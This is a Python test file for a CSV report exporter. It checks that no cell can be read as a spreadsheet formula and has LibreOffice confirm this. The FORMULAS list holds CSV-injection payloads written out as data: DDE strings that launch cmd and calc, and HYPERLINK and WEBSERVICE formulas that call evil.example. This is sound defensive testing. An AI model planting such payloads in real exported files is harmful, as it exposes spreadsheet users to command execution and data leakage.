"""The findings as rows, in which a spreadsheet finds no formula."""

import csv
import io
import re
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import etree

from analyzer.model.report import Report
from analyzer.report.language.words import LANGUAGES
from analyzer.report.machine.csv import COLUMNS, harmless, render
from analyzer.report.redaction.redact import Redaction, redact
from tests.report.hostile import POLYGLOTS, hostile
from tests.report.reports import finding, refused

FORMULAS = (
    *("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1"),
    *("\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)"),
    *('"=1+1"', '";=1+1;"', "x;=1+1", 'x;"=1+1', 'x"";=1+1', "x|=1+1", "a,=1+1", '",=1+1,"'),
    '=HYPERLINK("https://evil.example/"&A1,"click")',
    '=WEBSERVICE("https://evil.example/")',
    "=cmd|'/C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    "-2+3+cmd|' /C calc'!A0",
)
"""What a spreadsheet might compute, wherever it parts cells."""

SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


def rows(report: Report, language: str = "en") -> list[dict[str, str]]:
    text = render(redact(report, Redaction.NONE), language)
    assert text.startswith("\ufeff")
    return [*csv.DictReader(io.StringIO(text[1:], newline=""), strict=True)]


def test_each_finding_is_a_row() -> None:
    first, second, third = rows(refused())
    assert tuple(first) == COLUMNS
    assert first["rule"] == "SA-007"
    assert (first["severity"], first["confidence"]) == ("error", "high")
    assert [row["cause_of_verdict"] for row in (first, second, third)] == ["yes", "no", "no"]
    assert second["explained_by"] == "SA-007"
    assert (first["input"], first["sha256"]) == ("session.har", "ab" * 32)
    assert (first["session"], first["agent"]) == ("1", "agent1001")
    assert (third["session"], third["agent"], third["server"]) == ("", "", "")
    assert first["time"] == "2026-01-01T00:00:00.350Z"
    assert first["look_up"] == ".log.entries[3]._webSocketMessages[3]"
    assert first["title"] == "The server refused the user name or password of agent1001"
    assert first["reference"] == "RFC 6120 section 6.5.10"


def test_findings_about_several_sessions_name_them() -> None:
    (row,) = rows(
        refused(findings=(finding("SA-007", capture=None, session=None, sessions=(1, 2)),))
    )
    assert (row["session"], row["input"], row["sha256"]) == ("1, 2", "", "")


def test_lines_end_as_rfc_4180_wants() -> None:
    text = render(redact(refused()), "en")
    assert text.count("\r\n") == text.count("\n") == text.count("\r") == 4


@pytest.mark.parametrize("language", LANGUAGES)
def test_names_are_english_and_sentences_are_not(language: str) -> None:
    assert tuple(rows(refused(), language)[0]) == COLUMNS


@given(st.text(max_size=60))
def test_no_cell_is_a_formula(text: str) -> None:
    _hold(text)


@given(st.text(alphabet=f"{SIGNS};,|\t\r\n\0 \"'a1", max_size=12))
def test_no_cell_is_a_formula_however_it_is_parted(text: str) -> None:
    _hold(text)


def _hold(text: str) -> None:
    cell = harmless(text)
    assert cell.replace("'", "") == text.replace("'", "")
    assert harmless(cell) == cell
    written = io.StringIO()
    csv.writer(written).writerow(["x", cell])
    for separator in ",;|\t":
        for part in re.split(f"[{separator}]", written.getvalue()):
            assert part.strip(' \r\n\t"')[:1] not in tuple(SIGNS) or separator == ","


@pytest.mark.parametrize("text", [*FORMULAS, *POLYGLOTS])
def test_cells_hold_what_can_be_seen(text: str) -> None:
    for row in rows(hostile(text)):
        assert all(cell.isprintable() for cell in row.values())
        assert all(not cell.startswith(tuple(SIGNS)) for cell in row.values())


def converted(soffice: str, folder: Path, separator: str) -> list[etree._Element]:
    """Cells of the CSV in a folder, as LibreOffice takes them."""
    (source,) = folder.glob("*.csv")
    # Tokens of the filter: separator and quote as numbers, then UTF-8; formulas are evaluated.
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={(folder / 'profile').as_uri()}",
            "--headless",
            f"--infilter=CSV:{ord(separator)},34,76",
            "--convert-to",
            "ods",
            "--outdir",
            str(folder),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    with zipfile.ZipFile(source.with_suffix(".ods")) as archive:
        content = etree.fromstring(archive.read("content.xml"))
    return [*content.iter("{*}table-cell")]


def computed(cell: etree._Element) -> bool:
    """Whether it is a formula, a link, or a number that nobody wrote as one."""
    names = {etree.QName(str(name)).localname: str(value) for name, value in cell.attrib.items()}
    text = "".join(map(str, cell.itertext()))
    made = names.get("value-type", "string") != "string" and not text.isdigit()
    return "formula" in names or made or next(cell.iter("{*}a"), None) is not None


@pytest.mark.parametrize("separator", [",", ";"])
def test_libreoffice_finds_nothing_to_compute(separator: str, soffice: str, tmp_path: Path) -> None:
    reports = (redact(hostile(text), Redaction.NONE) for text in (*FORMULAS, *POLYGLOTS))
    text = "".join(render(report, "en") for report in reports)
    (tmp_path / "findings.csv").write_bytes(text.encode())
    cells = converted(soffice, tmp_path, separator)
    assert len(cells) > 10 * len(FORMULAS)
    assert [etree.tostring(cell) for cell in cells if computed(cell)] == []


def test_libreoffice_would_find_it(soffice: str, tmp_path: Path) -> None:
    (tmp_path / "a.csv").write_text(
        'x,=1+1\n"=2+2",-3\ny,"=HYPERLINK(""https://evil.example/"")"\n'
    )
    assert sum(map(computed, converted(soffice, tmp_path, ","))) == 4
